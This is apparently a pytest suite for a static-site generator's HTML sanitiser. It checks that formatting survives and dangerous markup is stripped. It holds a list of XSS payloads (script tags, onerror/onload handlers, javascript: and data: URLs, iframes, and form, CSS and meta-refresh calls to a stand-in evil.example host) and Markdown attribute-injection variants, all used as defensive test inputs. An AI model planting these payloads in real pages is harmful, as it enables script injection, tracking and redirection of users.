"""Trusted HTML (``allow_html: true``) goes through the nh3 allow-list: formatting stays, code does not."""

from __future__ import annotations

import re

import pytest
from conftest import Tags

from generator.markup import render_block, render_inline
from generator.sanitize import clean_html

# Each of these tries to run script, load something, send a form or restyle the page.
PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=window.__pwned=1><circle r=1></circle></svg>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<a href="javascript:window.__pwned=1">a</a>',
    '<a href=" JaVaScRiPt:window.__pwned=1">a</a>',
    '<a href="jav&#x09;ascript:window.__pwned=1">a</a>',
    '<a href="&#106;avascript:window.__pwned=1">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
    '<span style="background:url(https://evil.example/track.png)">s</span>',
    '<div style="position:fixed;inset:0;background:red">cover</div>',
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<details open ontoggle="window.__pwned=1"><summary>s</summary></details>',
    '<b onmouseover="alert(1)">b</b>',
    '<p id="__config" name="search">clobber</p>',
    '<video><source onerror="window.__pwned=1"></video>',
    '<body onload="window.__pwned=1">',
    "<template><script>window.__pwned=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '<a href="https://example.org/" target="_blank" onclick="window.__pwned=1">ok</a>',
]


def dangers(html: str) -> list[str]:
    out = []
    for tag, attrs in Tags(html).tags:
        if tag in {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link",
                   "meta", "base", "template", "body", "video", "source", "noscript"}:
            out.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "id", "name", "srcdoc", "formaction", "action", "target"}:
                out.append(f"<{tag} {name}>")
            if name in {"href", "src", "cite"} and not re.match(r"^(https?:|mailto:|tel:|[./#a-z0-9])", value.strip(), re.I):
                out.append(f"<{tag} {name}={value}>")
            if name in {"href", "src", "cite"} and re.match(r"^\s*(javascript|vbscript|data):", value, re.I):
                out.append(f"<{tag} {name}={value}>")
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_sanitiser(payload: str) -> None:
    for html in (clean_html(payload), render_block(payload, allow_html=True), render_inline(payload, allow_html=True)):
        assert not dangers(html), f"{payload!r} became {html!r}"


def test_the_danger_check_can_fail() -> None:
    assert dangers('<img src=x onerror="a()">') and dangers('<a href="javascript:a()">') and dangers("<script>")
    assert dangers('<span style="color:red">') and dangers('<a href="data:text/html,x">')


def test_formatting_survives() -> None:
    html = (
        "<p><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <mark>m</mark> <small>sm</small> "
        '<sub>1</sub><sup>2</sup> <abbr title="cognitive behavioural therapy">CBT</abbr> <code>c</code> <kbd>k</kbd><br></p>'
        '<blockquote cite="https://example.org/">q</blockquote><ul><li>a</li></ul><ol start="3"><li>b</li></ol>'
        '<dl><dt>t</dt><dd>d</dd></dl><table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">d</td></tr></tbody></table><details><summary>more</summary><p>x</p></details>'
        '<h4>h</h4><hr><span class="gc-trusted-html" lang="cy">s</span>'
    )
    assert clean_html(html) == html


def test_links_and_images_keep_safe_urls_and_the_sites_own_links() -> None:
    html = render_block(
        '<a href="https://example.org/" rel="noopener" title="t">web</a> <a href="mailto:a@example.org">m</a> '
        '<a href="tel:116123">t</a> <img src="picture.png" alt="A picture"> [topic](topic:other)',
        allow_html=True,
        resolve=lambda kind, slug, anchor: f"../../{kind}s/{slug}/",
    )
    assert '<a href="https://example.org/" rel="noopener" title="t">web</a>' in html
    assert '<a href="mailto:a@example.org">m</a>' in html and '<a href="tel:116123">t</a>' in html
    assert '<img src="picture.png" alt="A picture">' in html
    assert '<a href="../../topics/other/">topic</a>' in html


def test_text_inside_dropped_elements_is_gone_and_outside_text_stays() -> None:
    assert clean_html("before<script>secret()</script><style>p{}</style><iframe>f</iframe>after") == "beforeafter"
    assert clean_html("<blink>kept text</blink>") == "kept text"


def test_html_stays_text_when_the_site_does_not_opt_in() -> None:
    assert render_block("<b>b</b>") == "<p>&lt;b&gt;b&lt;/b&gt;</p>"


# --------------------------------------------------------------------------- after Python-Markdown

# Trusted HTML whose text Python-Markdown would turn into tags: a block that opens with an
# inline tag is raw HTML to markdown-it (so nh3 sees the Markdown as text), but a paragraph
# to Python-Markdown, where attr_list, links, images and reference links come alive.
ROUTES = [
    '<br>\n![i](data:,x){: onerror="window.__pwned=1" } [a](javascript:window.__pwned=1)',
    '<br>\n# Heading {: onclick="window.__pwned=1" }',
    '<br>\nHeading\n{: onclick="window.__pwned=1" }',
    '<b>b</b>\n- item {: onclick="window.__pwned=1" }\n- two',
    "<b>b</b>\n1. item\n{: onmouseover=\"window.__pwned=1\" }",
    '<i>i</i> [a](https://example.org/){: onclick="window.__pwned=1" }',
    '<em>e</em> *x*{: onmouseover="window.__pwned=1" } `c`{: onclick="window.__pwned=1" }',
    "<br>\n[a][r]\n[r]: javascript:window.__pwned=1",
    '<span>s</span> [a][r]\n[r]: data:text/html,x "t"',
    "<br>\n![x](javascript:window.__pwned=1) <javascript:window.__pwned=1>",
    "<kbd>k</kbd>\n[a](vbscript:msgbox(1)){: .x }",
    # The marks that end a region cannot be written in content (as text, comment or attribute).
    '<a href="https://example.org/" title="<!--/gc-html--> </div>">t</a> <!--/gc-html--> &lt;!--/gc-html--&gt;\n'
    "[a](javascript:window.__pwned=1)",
]

# Where the renderer's HTML lands in a page: as the templates place it, and as an author's
# template override might (indented into a Markdown list item, in a md_in_html block, in a paragraph).
PLACES = [
    "Before.\n\n{block}\n\nAfter.\n",
    '<div class="admonition tip">\n<p class="admonition-title">Try</p>\n{block}\n</div>\n',
    "<ul>\n<li><strong>t</strong> {inline}</li>\n</ul>\n",
    "Before.\n\n- item\n\n    {block}\n",
    "<div markdown>\n\n{block}\n\n</div>\n",
    "A paragraph with {inline} in it.\n",
]


def through_the_build(markdown_page: str) -> str:
    """The generated page as the MkDocs plugin converts it: the stash, Python-Markdown with the
    site's extensions, the stash put back, then the allow-list over every trusted region."""
    import markdown

    from generator import htmlstash
    from generator.sanitize import clean_trusted_regions
    from generator.site import MARKDOWN_EXTENSIONS

    stashed, kept = htmlstash.stash_html(markdown_page)
    converted = markdown.Markdown(extensions=list(MARKDOWN_EXTENSIONS)).convert(stashed)
    return clean_trusted_regions(htmlstash.restore_html(converted, kept))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", ROUTES)
def test_nothing_the_allow_list_refuses_comes_out_of_python_markdown(text: str, place: str) -> None:
    page = place.format(block=render_block(text, allow_html=True), inline=render_inline(text, allow_html=True))
    html = through_the_build(page)
    assert not dangers(html), f"{text!r} placed as {place!r} became {html!r}"
    assert "gc-html-->" not in html, "the trusted-HTML marks stay in the page"


def test_the_issue_case_is_not_an_image_with_a_handler() -> None:
    html = through_the_build(
        render_block('<br>\n![i](data:,x){: onerror="document.title=\'PWN\'" } [a](javascript:alert(1))', allow_html=True)
    )
    assert "onerror" not in html.replace("{: onerror", "") and "javascript:alert" not in html.replace("](javascript", "")
    assert "<img" not in html and "<a " not in html


def test_trusted_html_reads_as_markdown_it_made_it_after_the_build() -> None:
    text = "**Bold** and <b>b</b> [web](https://example.org/)\n\n<br>\nSome *text*\n\n- one\n- two"
    html = through_the_build("Before.\n\n" + render_block(text, allow_html=True) + "\n")
    assert '<p><strong>Bold</strong> and <b>b</b> <a href="https://example.org/">web</a></p>' in html
    assert "<br>\nSome *text*" in html, "a raw HTML block stays as markdown-it left it"
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert html.count('<div class="gc-html">') == 1


def test_half_a_trusted_region_stops_the_build() -> None:
    from generator.sanitize import TrustedHtmlError, clean_trusted_regions

    whole = render_block("<b>b</b>", allow_html=True)
    assert clean_trusted_regions(whole) == '<div class="gc-html"><p><b>b</b></p></div>'
    with pytest.raises(TrustedHtmlError):
        clean_trusted_regions(whole.replace("<!--/gc-html-->", ""))
